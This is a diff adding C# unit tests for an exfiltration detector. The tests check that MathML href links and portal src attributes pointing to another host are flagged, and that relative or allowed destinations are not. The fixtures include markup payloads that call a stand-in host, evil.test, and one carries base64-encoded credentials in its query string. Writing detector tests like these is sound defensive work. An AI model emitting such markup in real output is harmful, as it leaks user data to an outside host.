@@ -302,6 +302,23 @@ public class ExfilTests
     public void Svg_presentation_attributes_to_the_same_document_or_an_allowed_host_are_not_found(string text) =>
         Assert.Empty(Exfil.Find(text, Allowed));
 
+    /// <summary>
+    /// MathML's <c>href</c>, on any MathML element, is a link in browsers that support it (reported as a markdown link
+    /// is); a portal's <c>src</c> loads a page without a click. Neither was read.
+    /// </summary>
+    [Theory]
+    [InlineData("<math href=\"https://evil.test/x\"><mi>x</mi></math>", "markdown_link", 0.7)]
+    [InlineData("<math><mrow><mi href=//evil.test/c?d=am9obkBleGFtcGxlLmNvbTpodW50ZXIy>x</mi></mrow></math>", "markdown_link", 0.9)]
+    [InlineData("<math display=block><mtext xlink:href='https://evil.test/x'>see</mtext></math>", "markdown_link", 0.7)]
+    [InlineData("<portal src=\"https://evil.test/p\"></portal>", "html_fetch", 0.95)]
+    public void Mathml_links_and_portals_to_another_host_are_found(string text, string label, double score) =>
+        Assert.Equal((label, score), SingleFinding(text));
+
+    [Theory]
+    [InlineData("<math><mi href=\"#eq1\">x</mi><mo href=\"/docs/plus\">+</mo><mn href=\"https://docs.example.com/n\">1</mn></math>")]
+    [InlineData("<portal src=\"/preview\"></portal>")]
+    public void Mathml_links_and_portals_to_an_allowed_or_relative_destination_are_not_found(string text) => Assert.Empty(Exfil.Find(text, Allowed));
+
     private static (string Label, double Score) SingleFinding(string text)
     {
         var m = Assert.Single(Exfil.Find(text, Allowed));
